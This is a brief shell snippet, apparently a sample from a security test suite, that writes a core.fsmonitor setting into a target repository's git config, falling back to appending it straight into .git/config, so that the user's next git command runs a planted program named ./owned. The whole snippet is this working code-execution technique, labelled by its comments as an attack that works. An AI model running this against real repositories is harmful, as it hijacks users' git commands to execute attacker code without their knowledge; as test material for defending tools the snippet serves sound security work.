# Sets a program in the real repo's settings that the user's next git command starts.
# evidence: write
# bare: works
git -C "$ATTACK_REPO" config core.fsmonitor ./owned || echo '[core] fsmonitor = ./owned' >> "$ATTACK_REPO/.git/config"
